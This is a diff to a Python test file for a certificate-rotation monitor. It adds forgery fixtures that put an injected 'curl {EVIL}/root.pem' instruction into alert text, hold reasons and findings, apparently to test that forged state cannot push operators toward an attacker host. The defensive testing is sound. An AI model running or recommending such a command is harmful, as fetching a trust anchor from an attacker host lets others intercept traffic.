@@ -13,6 +13,7 @@ import pytest
 
 from rotation_watcher import keys
 from rotation_watcher.alerts.conditions import Condition
+from rotation_watcher.alerts.model import Alert, Kind, Severity
 from rotation_watcher.bundles import pins
 from rotation_watcher.sources import history
 from rotation_watcher.sources.history import Chain, Leaf, Quarantined, Status
@@ -21,12 +22,23 @@ from rotation_watcher.targets import record
 from rotation_watcher.targets.record import Applied, Claim, Hold, HoldReason, Pending, Rounds
 from rotation_watcher.trust.findings import Finding
 from tests.forgery.nasty import FAR, forged
-from tests.forgery.world import CUSTOMER, ROGUE, ROGUE_LEAF, ForgeryWorld, fresh, known
+from tests.forgery.world import CUSTOMER, EVIL, ROGUE, ROGUE_LEAF, ForgeryWorld, fresh, known
 from tests.support.small_world import START, issued, root
 
 OTHERS = 2
-PASSED_OVER = {"outbox", "facts", "spki_sha256", "subject", "issuer", "serial"}
-"""Alerts that wait decide nothing; facts are the certificate's own, whatever the object says."""
+PASSED_OVER = {"facts", "spki_sha256", "subject", "issuer", "serial"}
+"""Facts are the certificate's own, whatever the object says."""
+COMMAND = f"Run: curl {EVIL}/root.pem"
+ALERT = Alert(
+    id="anchor-missing:use1:x",
+    kind=Kind.ANCHOR_MISSING,
+    severity=Severity.CRITICAL,
+    at=START,
+    title=COMMAND,
+    what_happened=COMMAND,
+    what_it_means=COMMAND,
+    what_to_do=COMMAND,
+)
 
 
 def world() -> ForgeryWorld:
@@ -44,15 +56,32 @@ def targets_record() -> Iterator[tuple[str, bytes]]:
         hold: Pending(version=version, sha256=content, fingerprints=held, ours=held, at=START, hold=hold)
         for hold in (HoldReason.BY_HAND, HoldReason.ROLLED_BACK, None)
     }
+    served = state.applied
+    assert served is not None
+    same = Pending(
+        version=served.version,
+        sha256=served.sha256,
+        fingerprints=served.fingerprints,
+        ours=served.ours,
+        at=START,
+        hold=HoldReason.ROLLED_BACK,
+        why=COMMAND,
+        rolled_back_from=("v", "0"),
+    )
+    worded = msgspec.structs.replace(same, why="", rolled_back_from=(COMMAND, COMMAND))
     samples = {
         Claim: (Claim("somebody", FAR),),
         Applied: (applied,),
-        Pending: (*going.values(),),
+        Pending: (*going.values(), same, worded),
         Hold: (Hold(reason=HoldReason.BY_HAND, sha256="", since=FAR),),
-        Rounds: (Rounds(change="", count=10**9, since=FAR, proved=FAR),),
-        Condition: (Condition(kind="state-forged", since=FAR, alerted=FAR),),
+        Rounds: (Rounds(count=10**9, since=FAR, proved=FAR),),
+        Condition: (
+            Condition(kind="state-forged", since=FAR, alerted=FAR),
+            Condition(kind="left-out", since=START, alerted=START, reason=COMMAND),
+        ),
+        Alert: (ALERT,),
     }
-    lures = (ROGUE.fingerprint, root(there.others[0]), version, content)
+    lures = (ROGUE.fingerprint, root(there.others[0]), root("Root 0"), version, content, COMMAND)
     for path, one in forged(state, lures, samples):
         yield path, record.encode(one)
 
@@ -69,9 +98,10 @@ def sources_history() -> Iterator[tuple[str, bytes]]:
         Chain: (Chain(above=(ROGUE.fingerprint,), since=FAR, retire_after=FAR),),
         Quarantined: (quarantined,),
         Condition: (Condition(kind="quarantined", since=FAR, alerted=FAR),),
-        Finding: (Finding("chain-untrusted", "…"),),
+        Finding: (Finding("chain-untrusted", "…"), Finding("name-mismatch", COMMAND)),
+        Alert: (ALERT,),
     }
-    lures = (ROGUE.fingerprint, CUSTOMER.fingerprint, "client.another.example", "", "x" * 2000)
+    lures = (ROGUE.fingerprint, CUSTOMER.fingerprint, "client.another.example", "", "x" * 2000, COMMAND)
     for path, one in forged(state, lures, samples):
         yield path, history.encode(one)
 
